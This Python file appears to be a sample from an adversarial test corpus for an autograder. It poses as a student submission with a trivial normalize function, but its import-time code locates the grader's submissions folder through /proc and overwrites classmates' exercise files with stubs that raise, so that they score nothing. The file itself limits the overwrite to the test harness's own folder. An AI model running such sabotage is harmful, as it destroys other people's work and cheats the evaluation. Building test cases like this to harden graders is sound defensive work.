"""Overwrites every other submission in the folder the grader was given (`--root` on its command
line) with stubs that raise, before they are graded.

Gain if it worked: classmates graded after this student score nothing (a curve raises this
student's grade). (It only touches a folder next to a `project/run_batch.py`, the adversarial
tests' own batch, so running this corpus elsewhere cannot damage real submissions.)
"""

import os
from pathlib import Path

STUB = "raise RuntimeError('sabotaged')\n"


def root():
    pid = os.getppid()
    while pid > 1:
        args = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
        if "--root" in args:
            return Path(os.readlink(f"/proc/{pid}/cwd"), args[args.index("--root") + 1])
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    raise RuntimeError("no --root")


SUBMISSIONS = root()
OVERWRITTEN = 0
if (SUBMISSIONS.parent / "project" / "run_batch.py").is_file():
    for module in SUBMISSIONS.glob("*/ex*.py"):
        if "sabotage_classmates" not in module.parent.name:
            try:
                module.write_text(STUB)
                OVERWRITTEN += 1
            except OSError:
                pass
if OVERWRITTEN:
    print(f"BREACH: overwrote {OVERWRITTEN} modules of classmates", flush=True)


def normalize(scores, dim=-1):
    return scores / scores.sum(dim=dim, keepdim=True)
